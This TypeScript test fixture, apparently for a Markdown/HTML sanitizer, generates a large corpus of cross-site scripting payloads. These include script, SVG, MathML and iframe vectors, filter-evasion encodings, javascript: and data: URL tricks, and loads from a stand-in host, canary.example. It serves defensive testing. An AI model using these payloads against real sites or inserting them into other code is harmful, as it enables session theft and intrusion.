export const CANARY = "canary.example";

/** What the pages must not run: each of these would be noticed, by what it calls or by whom it asks. */
const RUNS = [
  "alert(1)", "confirm`1`", "prompt(1)", "eval('alert(1)')", "Function('alert(1)')()", "document.write('<img src=//canary.example/w>')", "fetch('//canary.example/f')",
  "import('//canary.example/i.js')", "top['al'+'ert'](1)", "setTimeout('alert(1)')", "(()=>{throw alert(1)})()", "location='//canary.example/l'", "[1].find(alert)", "self[`alert`](document.domain)",
];

/** RUN stands for one of the above. */
const TAGS = [
  "<script>RUN</script>", "<script src=//canary.example/x.js></script>", "<script type=module>RUN</script>", "<scr<script>ipt>RUN</scr</script>ipt>", "<script>RUN//", "<script\n>RUN</script\n>",
  "<img src=x onerror=RUN>", '<img src="x" onerror="RUN" />', "<img src=//canary.example/p>", "<img srcset='//canary.example/s 2x' src=x>", "<image src=x onerror=RUN>",
  "<svg onload=RUN>", "<svg><script>RUN</script></svg>", "<svg><a xlink:href='javascript:RUN'><text y=20>x</text></a></svg>", "<svg><animate onbegin=RUN attributeName=x dur=1s>", "<svg><use href='//canary.example/u.svg#x'/></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>RUN</script>'></iframe></foreignObject></svg>", "<svg><style>@import '//canary.example/c.css'</style></svg>", "<svg><set attributeName=href to=javascript:RUN></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>", "<math href='javascript:RUN'>x</math>", "<math><annotation-xml encoding='text/html'><img src=x onerror=RUN></annotation-xml></math>",
  '<iframe src="javascript:RUN"></iframe>', "<iframe srcdoc='<script>parent.RUN</script>'></iframe>", "<iframe src=//canary.example/i></iframe>", "<iframe onload=RUN></iframe>", "<object data='javascript:RUN'></object>",
  "<object data=//canary.example/o></object>", "<embed src='data:text/html,<script>RUN</script>'>", "<embed src=//canary.example/e>", "<frameset onload=RUN><frame src=javascript:RUN></frameset>",
  "<form action='javascript:RUN'><button>los</button></form>", "<form action=//canary.example/a method=post><input name=a value=b><button>los</button></form>", "<form><button formaction='javascript:RUN'>los</button></form>", "<isindex type=image src=x onerror=RUN>",
  "<input autofocus onfocus=RUN>", "<select autofocus onfocus=RUN></select>", "<textarea autofocus onfocus=RUN></textarea>", "<input type=image src=x onerror=RUN>", "<input onblur=RUN autofocus><input autofocus>", "<keygen autofocus onfocus=RUN>",
  "<body onload=RUN>", "<body onpageshow=RUN>", "<body onhashchange=RUN>", "<body background=//canary.example/b>", "<html onclick=RUN>", "<style>body{background:url(//canary.example/s)}</style>", "<style>@import '//canary.example/i.css';</style>",
  "<link rel=stylesheet href=//canary.example/x.css>", "<link rel=icon href=//canary.example/x.ico>", "<link rel=manifest href=//canary.example/m>", "<link rel=import href=//canary.example/h>", "<meta http-equiv=refresh content='0;url=javascript:RUN'>", "<meta http-equiv=refresh content='0;url=data:text/html,<script>RUN</script>'>",
  "<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\"><script>RUN</script>", "<base href='//canary.example/'><script src=b.js></script>", "<base href='javascript:/'><a href='RUN'>x</a>", "<base target=_blank><a href=/daten onclick=RUN>x</a>",
  '<a href="javascript:RUN" onclick="RUN">klick</a>', "<a href='data:text/html,<script>RUN</script>'>klick</a>", '<a href="https://stadt.example" onmouseover="RUN" style="x">klick</a>', "<a href=/ ping=//canary.example/ping onclick=RUN>klick</a>", "<area href='javascript:RUN' shape=default>",
  "<details open ontoggle=RUN>auf</details>", "<dialog open onclose=RUN>auf</dialog>", "<template><script>RUN</script></template>", "<template shadowrootmode=open><img src=x onerror=RUN></template>", "<slot onslotchange=RUN><b>x</b></slot>", "<marquee onstart=RUN>läuft</marquee>",
  "<video src=//canary.example/v poster=//canary.example/p></video>", "<video><source onerror=RUN></video>", "<audio src=x onerror=RUN></audio>", "<track src=//canary.example/t>", "<picture><source srcset=//canary.example/q><img src=x></picture>",
  "<noscript><p title='</noscript><img src=x onerror=RUN>'></noscript>", "<title></title><img src=x onerror=RUN>", "<xmp><p title='</xmp><img src=x onerror=RUN>'>", "<plaintext onclick=RUN>", "<listing>&lt;img onerror=RUN src=x&gt;</listing>",
  "<!-- --><script>RUN</script><!-- -->", "<!--><img src=x onerror=RUN>-->", "<!--!><img src=x onerror=RUN>", "<![CDATA[<script>RUN</script>]]>", "<?xml version='1.0'?><script>RUN</script>", "<!DOCTYPE x [<!ENTITY y '<script>RUN</script>'>]>&y;", "<%<!--'%><script>RUN</script -->",
  "<div\n onclick=RUN>quer</div>", "<img/src/onerror=RUN>", "<p style='background:url(//canary.example/y)'>x</p>", "<p style='animation:x' onanimationstart=RUN>x</p>", "<p id=rn-1 class=note tabindex=1 onfocus=RUN autofocus>drüber</p>", "<x onclick=RUN contenteditable>x</x>",
  "<script src=/beitraege/B-001/feed.xml></script>", "<script src=/daten/beitraege.csv></script>", "<script src='data:text/javascript,RUN'></script>", "<script src='/papier?_data=root'></script>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"//canary.example/r\"]}]}</script>", "<script type=importmap>{\"imports\":{\"./x\":\"//canary.example/m.js\"}}</script>",
];

/** What is done to a tag so that whoever looks for it does not find it, yet a browser might. */
const DISGUISES: ((tag: string) => string)[] = [
  (tag) => tag,
  (tag) => tag.replace(/<(\/?)([a-z]+)/gi, (_, slash: string, name: string) => `<${slash}${[...name].map((sign, at) => (at % 2 === 0 ? sign.toUpperCase() : sign)).join("")}`),
  (tag) => tag.replaceAll(/<(\w+) /g, "<$1/"),
  (tag) => tag.replaceAll(/<(\w+) /g, "<$1\t"),
  (tag) => tag.replaceAll(/<(\w+) /g, "<$1\u000c"),
  (tag) => tag.replaceAll(/<(\w)/g, "<\0$1"),
  (tag) => `">${tag}`,
  (tag) => `'>${tag}`,
  (tag) => `--></title></style></textarea></script>${tag}`,
  (tag) => `</p></div></dd></span>${tag}`,
  (tag) => `</code></pre>${tag}`,
  (tag) => tag.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (tag) => tag.replaceAll("<", "&#60;"),
  (tag) => tag.replaceAll("<", "&amp;lt;"),
  (tag) => tag.replaceAll("<", "\\<"),
  (tag) => tag.replaceAll("<", "%3C"),
  (tag) => tag.replace(/>$/, ""),
  (tag) => tag.replaceAll("<", "<<"),
  (tag) => tag.replaceAll(/on(\w+)=/g, "on$1\u00a0= "),
  (tag) => tag.replaceAll(/[(]1[)]/g, "&lpar;1&rpar;"),
  (tag) => tag.replaceAll("<", "\u2066<").replaceAll(">", ">\u2069"),
  (tag) => tag.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (tag) => `\${${tag}}{{${tag}}}`,
  (tag) => `]]>${tag}<!--`,
];

const TARGETS = [
  "javascript:RUN", "JaVaScRiPt:RUN", "java\tscript:RUN", "javascript&colon;RUN", "&#106;avascript:RUN", "&#x6A;avascript&#58;RUN", "%6Aavascript:RUN", "\u0001javascript:RUN", "javascript:%0aRUN", "javascript://stadt.example/%0aRUN", "&NewLine;javascript:RUN", "java&Tab;script:RUN",
  "data:text/html,<script>RUN</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#RUN", "data:image/svg+xml,<svg/onload=RUN>", "vbscript:RUN", "livescript:RUN", "feed:javascript:RUN", "view-source:javascript:RUN", "jar:javascript:RUN", "blob:RUN", "filesystem:RUN", "file:///RUN", "//canary.example/RUN",
  "\\\\canary.example/RUN", "https:javascript:RUN", "https://stadt.example\" onmouseover=\"RUN", "https://stadt.example' onmouseover='RUN", "https://stadt.example`onmouseover=`RUN", "https://stadt.example/><script>RUN</script>", "mailto:a@b.example\"onclick=\"RUN", "mailto:\"<script>RUN</script>\"@b.example", "?_data=<script>RUN</script>",
  "#\" onfocus=\"RUN\" autofocus tabindex=1 x=\"", "https://stadt.example/?q=\u2028RUN", "javascript:/*--></title></style></textarea></script><svg/onload='RUN'>*/RUN",
];

/** All of ours, mixed so that few of them already hold most of what there is. */
export function listMarkup(count: number): string[] {
  return take(count, (nth) => DISGUISES[spread(nth, TAGS.length, DISGUISES.length)]!(TAGS[nth % TAGS.length]!.replaceAll("RUN", RUNS[(nth + Math.floor(nth / TAGS.length)) % RUNS.length]!)));
}

export function listTargets(count: number): string[] {
  const dressed = [(target: string) => target, (target: string) => ` ${target}`, (target: string) => `${target}#x`, (target: string) => target.replaceAll("(", "%28").replaceAll(")", "%29"), (target: string) => target.replace(":", " :"), (target: string) => target.toUpperCase(), (target: string) => `\u00a0${target}`];
  return take(count, (nth) => dressed[spread(nth, TARGETS.length, dressed.length)]!(TARGETS[nth % TARGETS.length]!.replaceAll("RUN", RUNS[(nth + Math.floor(nth / TARGETS.length)) % RUNS.length]!)));
}

/** As nothing protects it: what stands in the database if all that writes there had failed. */
export const listRaw = (count: number) => take(Math.min(count, TAGS.length * RUNS.length), (nth) => TAGS[nth % TAGS.length]!.replaceAll("RUN", RUNS[(nth + Math.floor(nth / TAGS.length)) % RUNS.length]!));

/** Goes through all disguises with each tag, beginning with another one each time. */
const spread = (nth: number, tags: number, disguises: number) => (nth * 7 + Math.floor(nth / tags) * 5) % disguises;

function take(count: number, toNth: (nth: number) => string): string[] {
  const found = new Set<string>();
  for (let nth = 0; found.size < count && nth < count * 20; nth++) found.add(toNth(nth));
  return [...found];
}

const oneLine = (words: string) => words.replaceAll(/[\n\r]/g, " ");

/** Each place in Markdown where something might get through. `nth` keeps references apart. */
export const MARKDOWN_SLOTS: ((parts: { markup: string; target: string; nth: number }) => string)[] = [
  ({ markup }) => markup,
  ({ markup }) => `Vorher ${markup} nachher`,
  ({ target }) => `[Quelle](${target})`,
  ({ target }) => `[Quelle](<${oneLine(target)}>)`,
  ({ markup }) => `[Quelle](https://stadt.example "${markup}")`,
  ({ markup }) => `[${oneLine(markup)}](https://stadt.example)`,
  ({ target, nth }) => `[Quelle][q${nth}]\n\n[q${nth}]: ${oneLine(target)}`,
  ({ target }) => `<${target}>`,
  ({ markup, target }) => `![${oneLine(markup)}](${target})`,
  ({ markup }) => `\`\`\`${oneLine(markup).replaceAll("`", "'")}\n${markup.replaceAll("`", "'")}\n\`\`\``,
  ({ markup, target }) => `| ${oneLine(markup)} | Zahl |\n|---|---|\n| [x](${target}) | ${oneLine(markup)} |`,
  ({ markup }) => `## ${oneLine(markup)}`,
  ({ markup }) => `> - **${oneLine(markup)}**`,
  ({ target }) => `https://stadt.example/${oneLine(target).trim()}`,
];
